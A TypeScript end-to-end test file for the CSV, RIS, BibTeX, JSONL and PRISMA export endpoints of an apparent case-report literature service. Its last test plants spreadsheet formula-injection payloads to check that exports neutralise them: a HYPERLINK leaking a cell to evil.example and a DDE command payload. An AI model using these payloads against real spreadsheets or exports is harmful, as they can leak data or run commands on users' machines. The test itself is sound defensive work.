import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { ExportService } from '../../src/literature/export/export.service';
import { parsePublications } from '../../src/literature/parse-publications';
import { collect, streamOf } from '../../src/literature/testing/fixtures';
import { CURATOR_KEY, startTestApp, TestApp } from '../support/test-app';
import { waitForIndex, asText } from '../support/search-index';

const EXPORT = `query($input: SearchCaseReportsInput!, $format: ExportFormat!) {
  exportCaseReports(input: $input, format: $format) { format fileName contentType caseCount publicationCount content }
}`;

describe('exports over HTTP and GraphQL (demo corpus)', () => {
  let app: TestApp;

  beforeAll(async () => {
    app = await startTestApp();
    await waitForIndex(app);
    app.running.app.get(ExportService).pageSize = 4; // the 23 demo cases span 6 search pages
  });

  afterAll(async () => {
    await app.close();
  });

  it('downloads the whole search as CSV, one row per case, with its publication and facts', async () => {
    const response = await asText(request(app.running.url).get('/exports').query({ format: 'csv' }));
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="case-reports-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers['x-total-cases']).toBe('23');
    const records = await collect(parsePublications(streamOf(response.body as string)));
    expect(records).toHaveLength(23);
    const header = (response.body as string).split('\n', 1)[0];
    expect(header).toMatch(/^case_id,case_label,curation_status,age_years,.*,complications,.*,outcome,.*,citation,key,title,authors,journal,year/);
  });

  it('takes the search as q (JSON) or as parameters, and they agree', async () => {
    const q = JSON.stringify({ filters: { complications: ['intrathecal-hematoma', 'spinal-subdural-hematoma'], procedures: ['epidural-blood-patch'], pregnancyStatuses: ['PREGNANT', 'POSTPARTUM'] }, sort: 'YEAR_DESC' });
    const byQ = await asText(request(app.running.url).get('/exports').query({ format: 'jsonl', q }));
    const byParams = await asText(
      request(app.running.url).get('/exports').query({ format: 'jsonl', complications: 'intrathecal-hematoma,spinal-subdural-hematoma', procedures: 'epidural-blood-patch', pregnancyStatuses: ['PREGNANT', 'POSTPARTUM'], sort: 'YEAR_DESC' }),
    );
    expect(byQ.status).toBe(200);
    expect(byQ.headers['x-total-cases']).toBe('5');
    expect(byQ.body).toBe(byParams.body);
    const lines = (byQ.body as string).trim().split('\n').map((line) => JSON.parse(line));
    expect(lines).toHaveLength(5);
    expect(lines.every((line) => line.pregnancyStatus === 'POSTPARTUM')).toBe(true);
  });

  it('downloads RIS, BibTeX and CSL-JSON with one record per publication', async () => {
    const ris = await asText(request(app.running.url).get('/exports').query({ format: 'ris' }));
    const publications = Number(ris.headers['x-total-publications']);
    expect(publications).toBeGreaterThan(10);
    expect((ris.body as string).match(/^TY {2}- JOUR/gm)).toHaveLength(publications);
    const bib = await asText(request(app.running.url).get('/exports').query({ format: 'bibtex' }));
    expect(bib.headers['content-type']).toBe('application/x-bibtex; charset=utf-8');
    expect(await collect(parsePublications(streamOf(bib.body as string)))).toHaveLength(publications);
    const csl = await request(app.running.url).get('/exports').query({ format: 'csl-json' });
    expect(JSON.parse(csl.text)).toHaveLength(publications);
  });

  it('answers HEAD /exports at once with the formats (a capability check; nothing is searched)', async () => {
    const head = await request(app.running.url).head('/exports').query({ format: 'probe' });
    expect(head.status).toBe(204);
    expect(head.headers['x-export-formats']).toBe('csv, ris, bibtex, csl-json, jsonl');
  });

  it('answers 400 with the field for a bad search or format, before sending anything', async () => {
    const badFilter = await request(app.running.url).get('/exports').query({ q: JSON.stringify({ filters: { complications: ['no-such-term'] } }) });
    expect(badFilter.status).toBe(400);
    expect(badFilter.body.error).toMatchObject({ code: 'BAD_USER_INPUT', fieldErrors: [{ path: 'q.filters.complications.0' }] });
    const badFormat = await request(app.running.url).get('/exports').query({ format: 'docx' });
    expect(badFormat.status).toBe(400);
    expect(badFormat.body.error.fieldErrors[0].path).toBe('format');
  });

  it('refuses an empty or blank value of any parameter with 400 naming it and what it takes (format= used to export CSV)', async () => {
    const get = (path: string, query: string) => request(app.running.url).get(`${path}?${query}`);
    const format = await get('/exports', 'format=');
    expect(format.status).toBe(400);
    expect(format.body.error).toMatchObject({ code: 'BAD_USER_INPUT', fieldErrors: [{ path: 'format', message: 'must not be empty: give one of csv, ris, bibtex, csl-json, jsonl (any case; or leave format out for csv)' }] });
    const blank = await get('/exports', 'format=%20%20');
    expect(blank.status).toBe(400);
    expect(blank.body.error.fieldErrors[0]).toMatchObject({ path: 'format', message: expect.stringMatching(/^must not be empty: give one of csv, ris/) });
    for (const [query, name, takes] of [
      ['scope=', 'scope', /cases or publications/],
      ['outcomes=', 'outcomes', /one or more of .*DEATH/],
      ['outcomes=DEATH&outcomes=', 'outcomes', /one or more of/],
      ['yearMin=', 'yearMin', /a number/],
      ['sort=%20', 'sort', /one of RELEVANCE, YEAR_DESC/],
      ['text=', 'text', /search text/],
      ['q=', 'q', /as JSON/],
      ['savedSearch=', 'savedSearch', /the id of a saved search/],
      ['outcomeKnown=', 'outcomeKnown', /true or false/],
      ['scope=publications&reviews=', 'reviews', /a review name/],
      ['scope=publications&caseStatuses=', 'caseStatuses', /NONE, SUGGESTED, CURATED/],
    ] as const) {
      const answer = await get('/exports', query);
      expect([query, answer.status]).toEqual([query, 400]);
      expect(answer.body.error.fieldErrors).toEqual([{ path: name, message: expect.stringMatching(takes) }]);
    }
    // Numbers are read as written in decimal: JavaScript's Number() read 0x7E3 as 2019 and Infinity as no bound.
    for (const [path, query, name] of [
      ['/exports', 'yearMin=0x7E3', 'yearMin'],
      ['/exports', 'scope=publications&yearMax=Infinity', 'yearMax'],
      ['/exports/case-numeric', 'field=AGE&interval=0b101', 'interval'],
    ] as const) {
      const answer = await get(path, query);
      expect([query, answer.status]).toEqual([query, 400]);
      expect(answer.body.error.fieldErrors).toEqual([{ path: name, message: expect.stringMatching(/must be a number written in decimal digits/) }]);
    }
    // Several at once are named together.
    const several = await get('/exports', 'format=&outcomes=&yearMax=');
    expect(several.body.error.fieldErrors.map((error: { path: string }) => error.path)).toEqual(['format', 'outcomes', 'yearMax']);
    for (const [query, name, takes] of [
      ['format=', 'format', /one of csv, json, svg, png/],
      ['review=%20', 'review', /a review name/],
    ] as const) {
      const answer = await get('/exports/prisma', query);
      expect(answer.status).toBe(400);
      expect(answer.body.error.fieldErrors).toEqual([{ path: name, message: expect.stringMatching(new RegExp(`^must not be empty: give ${takes.source}`)) }]);
    }
  });

  it('reads values trimmed and in any case where the parameter takes a fixed set (format=RIS, pregnancyStatuses=postpartum, sort=year_desc, scope=Publications)', async () => {
    const upper = await asText(request(app.running.url).get('/exports?format=%20RIS%20'));
    expect(upper.status).toBe(200);
    expect(upper.headers['content-type']).toBe('application/x-research-info-systems; charset=utf-8');
    const exact = await asText(request(app.running.url).get('/exports').query({ format: 'jsonl', pregnancyStatuses: 'POSTPARTUM', sort: 'YEAR_DESC', complicationsFollowProcedures: 'false' }));
    const loose = await asText(request(app.running.url).get('/exports').query({ format: 'JSONL', pregnancyStatuses: ' postpartum', sort: 'year_desc ', complicationsFollowProcedures: ' FALSE' }));
    expect(exact.status).toBe(200);
    expect(loose.status).toBe(200);
    expect(loose.body).toBe(exact.body);
    const publications = await asText(request(app.running.url).get('/exports').query({ scope: ' Publications', format: 'ris', caseStatuses: 'curated,suggested', sort: 'year_asc' }));
    expect(publications.status).toBe(200);
    expect(Number(publications.headers['x-total-publications'])).toBeGreaterThan(0);
    const prisma = await request(app.running.url).get('/exports/prisma').query({ format: ' JSON' });
    expect(prisma.status).toBe(200);
    expect(prisma.headers['content-type']).toMatch(/^application\/json/);
    // A value outside the set is still refused, named as written (not params.filters.sex.0).
    const wrong = await request(app.running.url).get('/exports').query({ sex: 'other', yearMin: '2020', yearMax: '2000' });
    expect(wrong.status).toBe(400);
    expect(wrong.body.error.fieldErrors.map((error: { path: string }) => error.path)).toEqual(['sex']);
    const unknownTerm = await request(app.running.url).get('/exports').query({ complications: 'no-such-term' });
    expect(unknownTerm.status).toBe(400);
    expect(unknownTerm.body.error.fieldErrors[0].path).toBe('complications');
  });

  it('exports small sets through GraphQL, and refuses sets over the limit with a pointer to the download', async () => {
    const result = await app.graphql<{ exportCaseReports: any }>(EXPORT, { input: { filters: { outcomes: ['DEATH', 'RESIDUAL_DEFICIT'] } }, format: 'RIS' });
    expect(result.errors).toBeUndefined();
    const exported = result.data!.exportCaseReports;
    expect(exported).toMatchObject({ format: 'RIS', contentType: 'application/x-research-info-systems; charset=utf-8', fileName: expect.stringMatching(/\.ris$/) });
    expect((exported.content as string).match(/^TY {2}- /gm)).toHaveLength(exported.publicationCount);

    const service = app.running.app.get(ExportService);
    service.queryMaxCases = 10;
    try {
      const tooMany = await app.graphql(EXPORT, { input: {}, format: 'CSV' });
      expect(tooMany.errors![0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', fieldErrors: [{ path: 'input', message: expect.stringMatching(/finds 23 case reports; this query exports at most 10\. .*GET \/exports/) }] });
    } finally {
      service.queryMaxCases = 1000;
    }
  });

  it('downloads the PRISMA identification numbers of a review as CSV or JSON', async () => {
    const review = 'export e2e review';
    const ris = 'TY  - JOUR\nTI  - A record for PRISMA\nAU  - Doe, J\nPY  - 2020\nER  - \n';
    for (let i = 0; i < 2; i++) {
      const upload = await request(app.running.url).post('/imports').query({ review, fileName: `search-${i}.ris` }).set('Authorization', `Bearer ${CURATOR_KEY}`).set('Content-Type', 'text/plain').send(ris);
      expect(upload.status).toBe(200);
    }
    const csv = await request(app.running.url).get('/exports/prisma').query({ review });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="prisma-identification-export_e2e_review.csv"');
    expect(csv.text.split('\n').filter(Boolean).map((line) => line.split(',').filter((_, i) => i !== 4).join(','))).toEqual([
      'review,stage,source,format,records',
      'export e2e review,records identified,search-0.ris,ris,1',
      'export e2e review,records identified,search-1.ris,ris,1',
      'export e2e review,records identified (total),,,2',
      'export e2e review,duplicate records removed,,,1',
      'export e2e review,records deleted by a curator (removed before screening),,,0',
      'export e2e review,records remaining (screened),,,1',
      'export e2e review,records not imported (errors/refused files),,,0',
      ...['records excluded', 'reports sought for retrieval', 'reports not retrieved', 'reports assessed for eligibility', 'reports excluded (with reasons)', 'studies included in review', 'reports of included studies'].map(
        (stage) => `export e2e review,${stage} (not available: not screened yet),,,`,
      ),
    ]);
    const json = await request(app.running.url).get('/exports/prisma').query({ review, format: 'json' });
    expect(json.body).toMatchObject({ review, recordsIdentified: 2, duplicatesRemoved: 1, recordsRemaining: 1 });
    expect(json.body.flow).toMatchObject({ identification: { recordsIdentified: 2, duplicatesRemoved: 1, recordsNotImported: 0 }, screening: { status: 'NOT_SCREENED', recordsScreened: 1, recordsExcluded: null }, included: { studies: null } });
    const svg = await request(app.running.url).get('/exports/prisma').query({ review, format: 'svg' }).buffer(true).parse((res, done) => {
      let text = '';
      res.on('data', (chunk: Buffer) => (text += chunk.toString()));
      res.on('end', () => done(null, text));
    });
    expect(svg.status).toBe(200);
    expect(svg.headers['content-type']).toMatch(/^image\/svg\+xml/);
    expect(svg.headers['content-disposition']).toBe('attachment; filename="prisma-flow-export_e2e_review.svg"');
    expect(svg.body).toContain('Duplicate records removed (n = 1)');
    const png = await request(app.running.url).get('/exports/prisma').query({ review, format: 'png' }).buffer(true);
    expect(png.status).toBe(200);
    expect(png.headers['content-type']).toBe('image/png');
    expect(Buffer.from(png.body).subarray(1, 4).toString()).toBe('PNG');
  });
  it('neutralises cells a spreadsheet would run as formulas (an apostrophe before =, +, -, @), and reads them back unchanged', async () => {
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Spinal hematoma")';
    const ris = `TY  - JOUR\nTI  - ${title}\nAU  - @SUM(1+1), Ann\nKW  - +cmd|' /C calc'!A0\nKW  - hematoma\nJO  - -2+3\nPY  - 2021\nSP  - -5\nER  - \n`;
    const imported = await request(app.running.url).post('/imports?review=formula-review&extractCases=false').set('Authorization', `Bearer ${CURATOR_KEY}`).set('Content-Type', 'text/plain').send(ris);
    expect(imported.body).toMatchObject({ stored: true, created: 1 });
    await waitForIndex(app);
    const response = await asText(request(app.running.url).get('/exports').query({ format: 'csv', scope: 'publications', reviews: 'formula-review' }));
    expect(response.status).toBe(200);
    const [header, row] = parse(response.body as string) as string[][];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('title')).toBe(`'${title}`);
    expect(cell('authors')).toBe("'@SUM(1+1), Ann");
    expect(cell('keywords')).toBe("'+cmd|' /C calc'!A0; hematoma");
    expect(cell('journal')).toBe("'-2+3");
    expect(row.filter((value) => /^[=+\-@\t\r]/.test(value) && !/^-?\d+$/.test(value))).toEqual([]);
    const [record] = await collect(parsePublications(streamOf(response.body as string)));
    expect(record.publication).toMatchObject({ title, authors: [{ family: '@SUM(1+1)', given: 'Ann' }], keywords: ["+cmd|' /C calc'!A0", 'hematoma'], journal: '-2+3' });
  });
});
